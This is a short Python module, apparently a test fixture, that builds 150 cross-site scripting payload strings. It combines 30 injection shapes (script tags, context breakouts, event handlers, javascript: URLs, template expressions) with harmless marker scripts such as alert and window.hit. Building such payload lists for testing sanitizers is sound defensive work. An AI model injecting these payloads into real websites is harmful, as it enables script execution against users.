"""Texts that would run as a script, leave their element or reach out, where a page took them so."""

from __future__ import annotations

import itertools

CODE = (
    "window.hit=1",
    "alert(1)",
    "parent.hit=1;confirm(2)",
    "window['hit']=1;prompt(3)",
    "fetch('http://127.0.0.1:9/x');window.hit=1",
)
SHAPES = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "</script><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</title><script>{0}</script>",
    "</style><script>{0}</script>",
    "--><script>{0}</script><!--",
    '<img src=x onerror="{0}">',
    "<img src=http://127.0.0.1:9/p.png onerror={0}>",
    '<svg onload="{0}"><animate onbegin="{0}" attributeName=x dur=1s>',
    "<svg><script>{0}</script></svg>",
    '<math><mi xlink:href="javascript:{0}">x</mi></math>',
    '<iframe srcdoc="<script>{0}</script>"></iframe>',
    '<iframe src="javascript:{0}"></iframe>',
    '<details open ontoggle="{0}">x</details>',
    '<body onload="{0}">',
    '<input autofocus onfocus="{0}">',
    '<video><source onerror="{0}"></video>',
    '<object data="javascript:{0}"></object>',
    '<link rel=stylesheet href=http://127.0.0.1:9/s.css onload="{0}">',
    '<meta http-equiv=refresh content="0;url=javascript:{0}">',
    '<base href=http://127.0.0.1:9/><a href="javascript:{0}">x</a>',
    '<form action="javascript:{0}"><button autofocus>x</button></form>',
    '" onmouseover="{0}" style="position:fixed;inset:0',
    "' onclick='{0}' x='",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "javascript:{0}",
    "&lt;script&gt;{0}&lt;/script&gt;<b onclick={0}>x</b>",
    "\u2028</script\u2029><script>{0}</script>\u202e\ufeff",
)
PAYLOADS = tuple(shape.format(code) for shape, code in itertools.product(SHAPES, CODE))
"""150 of them."""
